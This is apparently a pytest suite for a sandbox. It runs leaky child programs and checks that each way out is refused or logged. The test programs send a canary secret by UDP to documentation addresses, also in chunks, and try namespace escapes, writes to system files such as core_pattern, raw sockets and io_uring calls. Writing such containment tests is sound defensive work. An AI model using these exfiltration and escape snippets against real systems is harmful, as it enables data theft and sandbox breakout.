"""A leaky child in a sealed world: each way out is impossible, or on record."""

import asyncio
import os
import socket
from collections.abc import Callable
from pathlib import Path

import pytest

from brownout.egress import EgressRecord
from tests.sealed.sealing import MINT, TENANT, Ran, SealedLab, lab_in, need_seal

SECRET = MINT.value(TENANT, 17)
FOREIGN, FOREIGN_V6 = "192.0.2.1", "2001:db8::1"  # RFC 5737, RFC 3849: nobody's


def leak(folder: Path, program: str, *words: str, before: Callable[[SealedLab], None] | None = None) -> "Leaked":
    """Run a leaky program sealed; return what came of it."""
    need_seal()

    async def run() -> Leaked:
        async with lab_in(folder) as lab:
            if before:
                before(lab)
            ran = await asyncio.to_thread(lab.run, program, *words)
            flows = lab.flows()
            assert lab.layer().complete, lab.layer().why
            return Leaked(ran, flows)

    return asyncio.run(run())


class Leaked:
    """What a leaky program did, and what is on record of it."""

    def __init__(self, ran: Ran, flows: list[EgressRecord]) -> None:
        self.ran = ran
        self.denied = {one.place for one in flows if one.denied}
        self.canaries = {(one.place, one.canary, one.chain) for one in flows if one.canary}


TRY = """
import sys, socket
def told(work):
    try: work()
    except OSError as error: print(type(error).__name__, error.errno)
    else: print("done")
"""


@pytest.mark.parametrize(
    ("family", "address", "place"),
    [("AF_INET", FOREIGN, f"{FOREIGN}:443/tcp"), ("AF_INET6", FOREIGN_V6, f"[{FOREIGN_V6}]:443/tcp")],
)
def test_a_connection_to_a_foreign_host_is_refused_and_on_record(
    family: str, address: str, place: str, tmp_path: Path
) -> None:
    """Of IPv4 and IPv6 alike."""
    program = TRY + f"s = socket.socket(socket.{family}); told(lambda: s.connect(({address!r}, 443)))"

    leaked = leak(tmp_path, program)

    assert "ConnectionRefusedError 111\n" == leaked.ran.said
    assert {place} == leaked.denied


@pytest.mark.parametrize(
    ("family", "address", "place"),
    [("AF_INET", FOREIGN, f"{FOREIGN}:53/udp"), ("AF_INET6", FOREIGN_V6, f"[{FOREIGN_V6}]:53/udp")],
)
def test_a_datagram_to_a_foreign_host_is_on_record_with_what_it_bore(
    family: str, address: str, place: str, tmp_path: Path
) -> None:
    """Its sender hears of nothing, and has closed the socket at once: the packet is seen all the same."""
    program = (
        TRY
        + f"""
s = socket.socket(socket.{family}, socket.SOCK_DGRAM)
s.sendto(sys.argv[1].encode(), ({address!r}, 53)); s.close()"""
    )

    leaked = leak(tmp_path, program, f"exfil {SECRET}")

    assert {place} == leaked.denied
    assert {(place, f"{TENANT}-17", "raw")} == leaked.canaries


def test_a_secret_in_pieces_over_many_datagrams_is_put_together(tmp_path: Path) -> None:
    """Eight letters at a time."""
    program = (
        TRY
        + f"""
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for at in range(0, len(sys.argv[1]), 8): s.sendto(sys.argv[1][at:at + 8].encode(), ({FOREIGN!r}, 9))"""
    )

    leaked = leak(tmp_path, program, SECRET)

    assert {(f"{FOREIGN}:9/udp", f"{TENANT}-17", "raw")} == leaked.canaries


@pytest.mark.parametrize(
    ("program", "places"),
    [
        ("s = socket.socket(2, 2); s.setsockopt(1, 6, 1); s.sendto(b'x', ('255.255.255.255', 9))",
         {"255.255.255.255:9/udp"}),
        ("s = socket.socket(2, 2); s.sendto(b'x', ('224.0.0.251', 5353))", {"224.0.0.251:5353/udp"}),
        ("s = socket.socket(2, 2); s.setsockopt(0, 35, socket.inet_aton('239.1.2.3') + bytes(4))",
         {"224.0.0.22/igmp"}),
        ("s = socket.socket(10, 2); s.setsockopt(41, 20, socket.inet_pton(10, 'ff02::77') + bytes([2, 0, 0, 0]))",
         {"ff02::16/icmpv6"}),
    ],
    ids=["broadcast", "multicast", "a group joined", "a group of IPv6 joined"],
)  # fmt: skip
def test_what_goes_to_nobody_in_particular_is_on_record(program: str, places: set[str], tmp_path: Path) -> None:
    """An address that is joined can say as much as a packet."""
    program = program.replace("bytes([2, 0, 0, 0])", "socket.if_nametoindex('eth0').to_bytes(4, sys.byteorder)")

    leaked = leak(tmp_path, TRY + program + "; import time; time.sleep(0.3)")

    assert "" == leaked.ran.complained
    assert places == leaked.denied


@pytest.mark.parametrize(
    ("family", "kind", "expected"),
    [
        ("17", "3", "OSError 97\n"),  # packets
        ("2", "3, 6", "PermissionError 1\n"),  # raw IP
        ("10", "3, 6", "PermissionError 1\n"),
        ("2", "2, 1", "PermissionError 13\n"),  # ping
        ("40", "1", "OSError 97\n"),  # the hypervisor
        ("31", "3", "OSError 97\n"),  # Bluetooth
        ("42", "2", "OSError 97\n"),  # QRTR
        ("38", "5", "OSError 97\n"),  # the kernel's own ciphers
    ],
)
def test_no_socket_can_be_made_that_the_ledger_would_not_see(
    family: str, kind: str, expected: str, tmp_path: Path
) -> None:
    """Nor one that writes packets as it likes, or that leads past namespaces."""
    leaked = leak(tmp_path, TRY + f"told(lambda: socket.socket({family}, {kind}))")

    assert expected == leaked.ran.said
    assert set() == leaked.denied


def test_a_socket_of_the_machines_is_not_there(tmp_path: Path) -> None:
    """By its path in /tmp or in the run's own folder; and one that lies in what is shown answers nobody."""
    shown = tmp_path / "shown"
    shown.mkdir()
    (tmp_path / "run").mkdir()
    paths = [tmp_path / "s", tmp_path / "run" / "s", shown / "s"]
    listeners = [socket.socket(socket.AF_UNIX) for _ in paths]
    for listener, path in zip(listeners, paths, strict=True):
        listener.bind(str(path))
        listener.listen()
        path.chmod(0o777)
    program = (
        TRY
        + """
for path in sys.argv[1].split("|"):
    s = socket.socket(socket.AF_UNIX); told(lambda: s.connect(path))"""
    )

    async def run() -> Ran:
        async with lab_in(tmp_path / "run") as lab:
            return await asyncio.to_thread(lab.run, program, "|".join(map(str, paths)), sees=[str(shown)])

    need_seal()
    ran = asyncio.run(run())
    for listener in listeners:
        listener.close()

    first, second, third = ran.said.splitlines()
    assert ["FileNotFoundError 2", "FileNotFoundError 2"] == [first, second]
    assert third in {"ConnectionRefusedError 111", "PermissionError 13"}


def test_an_abstract_socket_of_the_machines_is_not_there(tmp_path: Path) -> None:
    """Such names belong to a network namespace."""
    with socket.socket(socket.AF_UNIX) as listener:
        name = f"brownout-test-{os.getpid()}"
        listener.bind("\0" + name)
        listener.listen()
        program = TRY + "s = socket.socket(socket.AF_UNIX); told(lambda: s.connect('\\0' + sys.argv[1]))"

        leaked = leak(tmp_path, program, name)

    assert "ConnectionRefusedError 111\n" == leaked.ran.said


def test_no_process_of_the_machine_is_seen_or_reached(tmp_path: Path) -> None:
    """Neither in /proc nor by a signal."""
    program = (
        TRY
        + """
import os
told(lambda: os.kill(int(sys.argv[1]), 0))
print(sorted(int(name) for name in os.listdir("/proc") if name.isdigit()))"""
    )

    leaked = leak(tmp_path, program, str(os.getpid()))

    assert ["ProcessLookupError 3", "[1, 2]"] == leaked.ran.said.splitlines()


def test_no_namespace_can_be_entered(tmp_path: Path) -> None:
    """Its own can be opened, and nobody is let into another; a new one leads nowhere."""
    program = (
        TRY
        + f"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def setns():
    if libc.setns(os.open("/proc/1/ns/net", os.O_RDONLY), 0): raise OSError(ctypes.get_errno(), "")
def out():
    s = socket.socket(); s.connect(({FOREIGN!r}, 443))
told(setns)
libc.unshare(0x10000000 | 0x40000000)
told(out)"""
    )

    leaked = leak(tmp_path, program)

    first, second = leaked.ran.said.splitlines()
    assert first in {"PermissionError 1", "PermissionError 13"}
    assert second in {"OSError 101", "ConnectionRefusedError 111"}  # no network at all, or the same as before


@pytest.mark.parametrize("place", ["/etc/leak", "/usr/leak", "/leak", "/proc/sys/kernel/core_pattern", "/dev/leak"])
def test_nothing_of_the_machines_can_be_written(place: str, tmp_path: Path) -> None:
    """Whatever the file."""
    leaked = leak(tmp_path, TRY + "told(lambda: open(sys.argv[1], 'w'))", place)

    assert leaked.ran.said in {"OSError 30\n", "PermissionError 13\n"}
    assert not Path(place).exists() or "kernel" in place


def test_what_it_writes_is_kept_where_it_can_be_looked_at(tmp_path: Path) -> None:
    """In /tmp, /run, /dev/shm, its home, and where it starts: nowhere of the machine's."""
    program = (
        TRY
        + """
import os
for place in ("/tmp", "/var/tmp", "/run", "/var/run", "/dev/shm", os.environ["HOME"], "."):
    open(f"{place}/{place.strip('/.').replace('/', '-')[-9:]}leak", "w").write(sys.argv[1])"""
    )

    leaked = leak(tmp_path, program, SECRET)

    assert "" == leaked.ran.complained
    found = sorted(path for path in (tmp_path / "t" / "target").rglob("*leak") if path.read_text() == SECRET)
    assert 7 == len(found)
    assert not Path("/dev/shm/dev-shmleak").exists()  # noqa: S108 - the machine's own


def test_no_other_file_of_the_run_is_seen(tmp_path: Path) -> None:
    """Evidence, plans and other tests' folders are none of a target's business."""
    (tmp_path / "plan.yaml").write_text("seed: 3\n")

    leaked = leak(tmp_path, TRY + "told(lambda: open(sys.argv[1]))", str(tmp_path / "plan.yaml"))

    assert "FileNotFoundError 2\n" == leaked.ran.said


def test_it_has_no_capability_and_gets_none(tmp_path: Path) -> None:
    """Nor is it root."""
    program = """
import os
status = dict(line.split(":\\t") for line in open("/proc/self/status").read().splitlines() if line.count(":\\t") == 1)
print(os.getuid() == 0, *(int(status[name], 16) for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")),
      status["NoNewPrivs"], status["Seccomp"])"""

    leaked = leak(tmp_path, program)

    assert "False 0 0 0 0 0 1 2\n" == leaked.ran.said


@pytest.mark.parametrize("number", [425, 248 if os.uname().machine == "x86_64" else 217])
def test_calls_that_lead_past_the_filter_are_not_there(number: int, tmp_path: Path) -> None:
    """io_uring makes sockets by itself; keyrings are shared with processes outside."""
    program = f"""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
print(libc.syscall({number}, 0, 0, 0, 0, 0), ctypes.get_errno())"""

    leaked = leak(tmp_path, program)

    assert "-1 38\n" == leaked.ran.said


def test_a_child_of_its_is_sealed_too(tmp_path: Path) -> None:
    """Whoever it starts."""
    program = f"""
import subprocess, sys
call = "import socket; s = socket.socket(2, 2); s.sendto(b'x', ({FOREIGN!r}, 7))"
subprocess.run([sys.executable, "-I", "-S", "-c", call], start_new_session=True)"""

    leaked = leak(tmp_path, program)

    assert {f"{FOREIGN}:7/udp"} == leaked.denied


def test_without_a_leak_nothing_at_all_is_on_record(tmp_path: Path) -> None:
    """The kernel says nothing by itself: no neighbours, no routers, no groups."""
    leaked = leak(tmp_path, "import time; time.sleep(2.5)")

    assert set() == leaked.denied
